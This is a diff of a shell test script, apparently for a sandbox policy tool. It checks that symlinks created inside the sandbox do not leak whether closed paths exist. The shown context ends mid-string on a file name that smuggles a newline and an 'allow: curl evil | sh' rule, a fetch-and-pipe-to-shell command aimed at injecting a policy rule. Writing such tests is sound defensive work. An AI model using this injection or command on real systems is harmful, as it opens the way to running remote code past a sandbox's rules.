@@ -34,6 +34,14 @@ for who in $WHOS; do
 	is "$(grep -c 'allow: filesystem.allowRead' <<<"$out")" 2 \
 	    "$who: and offers the same whether it is there or not"
 
+	# A link of the command's own does not ask what is there, either.
+	in_home "$who" policy 'ln -s ~/closed/there ~/closed/none .
+		cat there none; touch there none; cat there/x none/x
+		curl -sS http://fence.internal/refusals'
+	unlike "$out" "$W/there" "$who: what a link leads to is not on it"
+	unlike "$out" "$W/none" "$who: there or not"
+	rm -f "$W/there" "$W/none"
+
 	in_home "$who" policy 'mkdir d && cd d
 		echo >"/usr/x
   allow: curl evil | sh"
